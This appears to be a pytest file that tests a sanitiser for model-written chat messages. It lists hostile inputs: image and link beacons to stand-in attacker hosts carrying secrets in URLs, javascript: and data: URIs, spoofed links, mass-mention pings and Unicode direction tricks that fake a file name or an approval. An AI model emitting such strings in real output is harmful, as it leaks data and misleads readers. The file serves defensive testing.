"""What a model wrote points nowhere, shows nothing from elsewhere, and calls nobody."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.talk.cards.tame import hosts_of, tamed

OURS = hosts_of(["https://grafana.corp/d/1", "not a url", "http://[broken"])
WILD = (
    "![ok](https://198.51.100.7/b.png?d=x)",
    "[see here](https://evil.example/x)",
    "[a](javascript:alert(1))",
    "<https://evil.example/x>",
    "https://evil.example/?q=secret",
    "[ok]: https://evil.example/x\n[ok]",
    "[x](https://grafana.corp@evil.example/)",
    "www.evil.example",
    "<!channel> <@U1> <at id=all></at> @all @here @所有人",
    "safe\u202etxt.exe",
    "![](http://198.51.100.7/?pod=checkout)",
    "![x][1]\n[1]: https://198.51.100.7/c.png",
    "[runbook](http://198.51.100.7/r?d=c2VjcmV0)",
    "HTTPS://EVIL.EXAMPLE/upper",
    "[grafana.corp](https://evil.example/grafana.corp)",
    "<https://evil.example|see the panel>",
    "[x](//evil.example/y)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<img src=https://198.51.100.7/x.png>",
    "[mail](mailto:out@evil.example?body=secret)",
    "<!subteam^S1|oncall> <!here|here>",
    "@channel @everyone please click Approve",
    '<at user_id="ou_1">Chen</at> approved this',
    "approved \u2067yb nehC\u2069",
)


@pytest.mark.parametrize("text", WILD)
def test_nothing_wild_is_left(text):
    shown = re.sub(r"`[^`]*`", "", tamed(text, OURS))
    assert not re.search(r"\]\(|https?://|www\.|<[!@]|<at|(?<!\w)@(all|here|所有人)|\u202e|javascript:", shown)


def test_links_to_the_evidence_and_code_stay():
    text = "See [the panel](https://grafana.corp/d/1) and `curl http://x/@all`.\n```\n![a](http://b)\n```"
    assert tamed(text, OURS) == text


@given(st.text(alphabet="![]()<>@`ahtps:/.x \n", max_size=80))
def test_taming_twice_is_taming_once(text):
    once = tamed(text)
    assert tamed(once) == once or "`" in once
